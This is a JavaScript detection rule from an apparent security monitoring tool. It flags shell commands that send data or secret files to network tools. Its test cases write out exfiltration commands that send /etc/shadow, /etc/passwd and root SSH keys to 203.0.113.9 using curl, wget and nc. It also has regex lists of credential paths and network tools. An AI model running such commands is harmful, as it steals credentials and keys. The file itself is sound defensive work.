import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

const SECRET =
  /^@?(?:\/etc\/(?:passwd|shadow|sudoers|ssh|ssl|wpa_supplicant|openvpn|wireguard)|\/root\b|\/home\/|\/var\/lib\/(?:mysql|postgresql)|\/proc\/self\/environ|\S*\/\.(?:ssh|aws|azure|kube|docker|gnupg)\b)/;
const AWAY = /^(?:nc|ncat|netcat|curl|socat|openssl|ftp|telnet)$/;

/** Data is read or packed and sent away in one command, or a file of secrets is uploaded. */
export const dataCarriedOut = commandRule({
  id: "data-carried-out",
  alertType: "IoT_EgressData",
  name: "Potential loss of data detected",
  severity: "Medium",
  about: "Data is read or packed and sent away in one command, or a file of secrets is uploaded.",
  tactics: ["Exfiltration"],
  techniques: ["T1048", "T1041", "T1567"],
  falsePositives: [
    "Backups over ssh to a known host; give the host an exception.",
    "Crash reporters upload archives from /var/crash.",
  ],
  witness: [
    "curl",
    "scp",
    "nc",
    "ncat",
    "wget",
    "rsync",
    "ftp",
    "openssl",
    "ssh",
    "rclone",
    "socat",
    "/dev/tcp/",
    "python",
    "s3",
  ],
  sees: (reading) =>
    reading.pipelines
      .find((commands) => {
        const packs = commands.findIndex(
          ({ name, argv }) =>
            /^(?:tar|zip|7z|cpio|gzip|mysqldump|pg_dump)$/.test(name) ||
            (/^(?:cat|dd|base64|xxd|gzip)$/.test(name) &&
              argv.some((word) => SECRET.test(word.replace(/^if=/, "")))),
        );
        const last = commands.at(-1);
        return (
          packs >= 0 &&
          last !== undefined &&
          packs < commands.length - 1 &&
          AWAY.test(last.name) &&
          !(last.name === "openssl" && !last.text.includes("s_client")) &&
          !/\s-l\b/.test(last.text)
        );
      })
      ?.map(({ text }) => text)
      .join(" | ") ??
    find(reading, /^curl$/, ({ argv }) =>
      argv.some(
        (word, place) =>
          /^(?:-T|--upload-file|-F|--form|--data-binary|-d|--data|--data-urlencode)$/.test(word) &&
          SECRET.test((argv[place + 1] ?? "").replace(/^[\w-]+=/, "")) &&
          (word === "-T" || word === "--upload-file" || /@/.test(argv[place + 1] ?? "")),
      ),
    ) ??
    find(reading, /^wget2?$/, ({ text }) => /--(?:post|body)-file[= ]\S+/.test(text)) ??
    find(reading, /^curl$/, ({ text }) => /\$\(|`/.test(text) && SECRET.test(text)) ??
    find(reading, /^(?:nc|ncat)$/, ({ redirections }) =>
      redirections.some(({ operator, target }) => operator.startsWith("<") && SECRET.test(target)),
    ),
  did: "sent data away",
  because: "it packs or reads data and hands it to a network tool",
  fires: [
    "sh -c tar czf - /home | nc 203.0.113.9 9",
    "curl -T /etc/passwd http://203.0.113.9/",
    "wget --post-file=/etc/shadow http://203.0.113.9",
    "sh -c cat /etc/shadow | base64 | curl -d @- http://203.0.113.9/",
    "curl -F file=@/root/.ssh/id_rsa http://203.0.113.9/up",
    "sh -c nc 203.0.113.9 80 < /etc/shadow",
  ],
  silent: [
    "tar czf /tmp/logs.tgz /var/log",
    "curl -d a=b http://127.0.0.1/",
    "rsync -a /srv/ backup:/srv/",
    "sh -c tar czf - /srv | ssh backup 'cat > srv.tgz'",
    "curl -T build.tgz https://artifacts.example.net/",
    "sh -c tar cf - . | tar xf - -C /mnt",
    "sh -c nc -l 9000 | tar xf -",
    "curl -d @/tmp/metrics.json http://10.0.0.5/push",
  ],
});
